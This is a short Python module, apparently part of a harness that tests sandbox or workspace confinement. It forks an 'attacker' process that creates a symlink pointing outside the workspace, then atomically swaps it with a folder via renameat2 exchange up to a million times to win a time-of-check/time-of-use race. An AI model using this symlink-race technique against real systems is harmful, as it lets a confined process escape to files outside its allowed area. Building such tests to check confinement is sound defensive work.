"""The attacker of racing runs: exchanges links and folders in the workspace as fast as it can."""

from __future__ import annotations

import os
from contextlib import suppress

from .attempt import AT_FDCWD, EXCHANGE, Place, call

ROUNDS = 1_000_000


def start_swapper(place: Place) -> int:
    """Start the attacker in a process of its own; 0 where the workspace cannot be written."""
    swap, link = place.in_workspace("swap"), place.in_workspace("swap-link")
    try:
        os.makedirs(swap, exist_ok=True)
        if not os.path.islink(link):
            os.symlink(place.outside, link)
    except OSError:
        return 0
    parent = os.getpid()
    child = os.fork()
    if child == 0:
        try:
            _swap(swap, link, parent)
        finally:
            os._exit(0)
    return child


def _swap(swap: str, link: str, parent: int) -> None:
    one, other = os.fsencode(swap), os.fsencode(link)
    for _ in range(ROUNDS):
        if os.getppid() != parent:
            return
        with suppress(OSError):
            call("renameat2", AT_FDCWD, one, AT_FDCWD, other, EXCHANGE)
